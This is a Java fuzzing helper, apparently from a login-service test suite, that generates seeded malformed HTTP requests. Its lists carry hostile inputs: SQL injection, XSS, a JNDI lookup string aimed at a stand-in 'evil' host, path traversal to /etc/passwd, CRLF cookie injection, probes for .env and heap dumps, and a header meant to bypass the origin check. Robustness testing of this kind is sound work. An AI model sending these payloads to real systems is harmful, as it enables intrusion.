package io.github.redsessions.login;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/**
 * Makes requests that a browser never sends, of one seed always the same. GET /csrf is not among
 * them, since that begins a session for whoever asks.
 */
final class HostileRequests {

  private static final List<String> METHODS =
      List.of(
          "GET",
          "GET",
          "GET",
          "POST",
          "POST",
          "POST",
          "HEAD",
          "PUT",
          "DELETE",
          "PATCH",
          "OPTIONS",
          "TRACE",
          "PROPFIND",
          "get",
          "G",
          "POST_",
          "X-" + "M".repeat(40));
  private static final List<String> PATHS =
      List.of(
          "/",
          "/login",
          "/login",
          "/login",
          "/logout",
          "/login.css",
          "/me",
          "/password",
          "/elevate",
          "/elevate/drop",
          "/sessions",
          "/sessions/revoke-others",
          "/sessions/x",
          "/sessions/x/revoke",
          "/admin/sessions",
          "/admin/sessions/revoke",
          "/admin/sessions/revoke-everyone",
          "/nothing",
          "//login",
          "/login/",
          "/login;x=1",
          "/LOGIN",
          "/%6cogin",
          "/..%2f..%2fetc/passwd",
          "/../../etc/passwd",
          "/sessions/%00",
          "/sessions/..",
          "/%zz",
          "/%",
          "/%c0%af",
          "/%ff%fe",
          "/login%0d%0aSet-Cookie:%20sid=x",
          "/sessions/" + "a".repeat(22),
          "http://evil.example/login",
          "/.env",
          "/actuator/heapdump",
          "/WEB-INF/web.xml",
          "/login\u00e4",
          "/\u0001",
          "*",
          "/sessions/" + "%2e".repeat(300),
          "/" + "x/".repeat(700));
  private static final List<String> TEXTS =
      List.of(
          "",
          "x",
          "demo",
          "ann' OR '1'='1",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil/x}",
          "{{7*7}}",
          "../../etc/passwd",
          "%00",
          "%zz",
          "%",
          "\u00ff\u00fe",
          "\u0000",
          "\u0007",
          "a,b;c=d",
          "\"",
          "\\",
          "*",
          "{x}",
          "[1]",
          "null",
          "true",
          "-1",
          "1e999",
          "99999999999999999999",
          "\u00c3(",
          "\u00ed\u00a0\u0080",
          "\u202e".repeat(3),
          "A".repeat(256),
          "A".repeat(3_000),
          "%u0000",
          "&&&&",
          "=",
          "a=b=c");
  private static final List<String> HEADERS =
      List.of(
          "Accept",
          "Accept-Charset",
          "Accept-Language",
          "Accept-Encoding",
          "Authorization",
          "Origin",
          "Referer",
          "Sec-Fetch-Site",
          "Sec-Fetch-Mode",
          "X-CSRF-Token",
          "X-Forwarded-For",
          "X-Forwarded-Proto",
          "X-Forwarded-Host",
          "Forwarded",
          "User-Agent",
          "Range",
          "If-None-Match",
          "If-Modified-Since",
          "X-HTTP-Method-Override",
          "X-Original-URL",
          "Content-Encoding",
          "Content-Type",
          "Cookie",
          "Via",
          "From",
          "TE",
          "Trailer",
          "Pragma",
          "Cookie2",
          "Date");
  private static final List<String> VALUES =
      List.of(
          "*/*",
          "text/html",
          "application/json;q=abc",
          "text/html;q=NaN,*/*;q=1e400",
          ",,,;;;===",
          "same-origin",
          "cross-site",
          "none",
          "null",
          "http://127.0.0.1",
          "https://evil.example",
          "Basic ZGVtbzpkZW1v",
          "Bearer x.y.z",
          "for=\"[::1]:x\";proto=https;;",
          "1.2.3.4, unknown,,",
          "[::ffff:1.2.3.4]:99999",
          "bytes=0-,9-1",
          "gzip, br;q=-1",
          "multipart/form-data",
          "application/x-www-form-urlencoded; charset=utf-7",
          "application/json; charset=\u0001",
          "multipart/form-data; boundary=\"",
          "text/plain",
          "Thu, 99 Foo 0000 99:99:99 GMT");

  private final long seed;

  HostileRequests(long seed) {
    this.seed = seed;
  }

  /**
   * Makes one request.
   *
   * @param mayBreak whether its end may be unclear, or that of its connection
   */
  HostileRequest get(long number, boolean mayBreak) {
    Random random = new Random(seed * 0x9E3779B97F4A7C15L + number);
    if (mayBreak && random.nextInt(4) > 0) {
      byte[] broken = HostileBytes.of(random, framed(random));
      return new HostileRequest(number, new String(broken, ISO_8859_1), false, false);
    }
    String text = new String(framed(random), ISO_8859_1);
    return new HostileRequest(number, text, true, text.startsWith("HEAD "));
  }

  private static byte[] framed(Random random) {
    String method = pick(random, METHODS);
    StringBuilder head = new StringBuilder(method + " " + pick(random, PATHS));
    for (int i = random.nextInt(4); i > 0; i--) {
      head.append(head.indexOf("?") < 0 ? '?' : '&');
      head.append(pick(random, List.of("next", "x", "", "error", "username")));
      head.append('=').append(inTarget(pick(random, TEXTS)));
    }
    head.append(" HTTP/1.1\r\nHost: ");
    head.append(
        pick(random, List.of("127.0.0.1", "localhost:1", "evil.example", "[::1]:80", "a_b")));
    head.append("\r\n");
    for (int i = random.nextInt(6); i > 0; i--) {
      String value = random.nextBoolean() ? pick(random, VALUES) : inHeader(pick(random, TEXTS));
      head.append(pick(random, HEADERS)).append(": ").append(value).append("\r\n");
    }
    for (int i = random.nextInt(3); i > 0; i--) {
      head.append("Cookie: ").append(cookie(random)).append("\r\n");
    }
    if (random.nextInt(3) > 0) {
      // Past the check of the origin.
      head.append("Sec-Fetch-Site: same-origin\r\n");
    }
    byte[] body =
        random.nextInt(3) == 0 && !method.equals("POST") ? new byte[0] : body(random, head);
    if (body.length > 2 && random.nextInt(4) == 0) {
      head.append("Transfer-Encoding: chunked\r\n\r\n");
      return join(head, chunked(body, 1 + random.nextInt(body.length)));
    }
    head.append("Content-Length: ").append(body.length).append("\r\n\r\n");
    return join(head, body);
  }

  private static byte[] chunked(byte[] body, int cut) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (int[] part : new int[][] {{0, cut}, {cut, body.length - cut}}) {
      if (part[1] > 0) {
        out.writeBytes((Integer.toHexString(part[1]) + ";x=y\r\n").getBytes(ISO_8859_1));
        out.write(body, part[0], part[1]);
        out.writeBytes("\r\n".getBytes(ISO_8859_1));
      }
    }
    out.writeBytes("0\r\n\r\n".getBytes(ISO_8859_1));
    return out.toByteArray();
  }

  private static String cookie(Random random) {
    byte[] id = new byte[48];
    random.nextBytes(id);
    String value = Base64.getUrlEncoder().withoutPadding().encodeToString(id);
    return switch (random.nextInt(10)) {
      case 0, 1, 2 -> "sid=" + value;
      case 3 -> "sid=" + value + ".k1." + value.substring(0, 43);
      case 4 -> "sid=" + value.substring(random.nextInt(64));
      case 5 -> "sid=" + value + "; sid=" + value;
      case 6 -> "sid=\"" + value + "\"; $Version=1; __Host-sid=" + value;
      case 7 -> "=sid=" + value + ";;; ;SID=" + value;
      case 8 -> "sid=" + inHeader(pick(random, TEXTS));
      default -> inHeader(pick(random, TEXTS)) + "=" + value.repeat(random.nextInt(40));
    };
  }

  /** Writes the type of the body that it makes. */
  private static byte[] body(Random random, StringBuilder head) {
    String type =
        switch (random.nextInt(8)) {
          case 0 -> pick(random, VALUES);
          case 1 -> "multipart/form-data; boundary=x";
          case 2, 3, 4 -> LoginFixture.JSON;
          default -> LoginFixture.FORM;
        };
    head.append("Content-Type: ").append(type).append("\r\n");
    String body =
        switch (random.nextInt(12)) {
          case 0 -> "";
          case 1 -> "[".repeat(1 + random.nextInt(20_000));
          case 2 -> "{\"username\":" + "{\"a\":".repeat(1 + random.nextInt(4_000));
          case 3 -> "a=&".repeat(1 + random.nextInt(7_000));
          case 4 ->
              "--x\r\nContent-Disposition: form-data; name=\"username\"; filename=\"../x\"\r\n\r\nx";
          case 5, 6, 7 -> form(random);
          default -> json(random);
        };
    return body.getBytes(random.nextInt(5) == 0 ? StandardCharsets.UTF_16 : ISO_8859_1);
  }

  private static String form(Random random) {
    StringBuilder form = new StringBuilder();
    for (String name : List.of("username", "password", "current", "next", "_csrf", "user")) {
      for (int i = random.nextInt(3); i > 0; i--) {
        form.append(name).append('=').append(pick(random, TEXTS)).append('&');
      }
    }
    return form.toString();
  }

  private static String json(Random random) {
    StringBuilder json = new StringBuilder("{");
    for (String name : List.of("username", "password", "new", "level", "__proto__", "user")) {
      String text = pick(random, TEXTS);
      json.append('"').append(name).append("\": ");
      json.append(
          switch (random.nextInt(6)) {
            case 0 -> text;
            case 1 -> "[\"" + text + "\"]";
            case 2 -> "\"\\ud800\\u0000\"";
            case 3 -> "1e99999";
            default -> '"' + text + '"';
          });
      json.append(random.nextInt(20) == 0 ? ' ' : ',');
    }
    json.setLength(json.length() - 1);
    return json.append(random.nextInt(10) == 0 ? "" : "}").toString();
  }

  private static String inTarget(String text) {
    return text.replaceAll("[\\u0000-\\u0020]", "%20");
  }

  private static String inHeader(String text) {
    return text.replaceAll("[\\u0000-\\u001f\\u007f]", "?");
  }

  private static byte[] join(StringBuilder head, byte[] body) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(head.toString().getBytes(ISO_8859_1));
    out.writeBytes(body);
    return out.toByteArray();
  }

  static <T> T pick(Random random, List<T> from) {
    return from.get(random.nextInt(from.size()));
  }
}
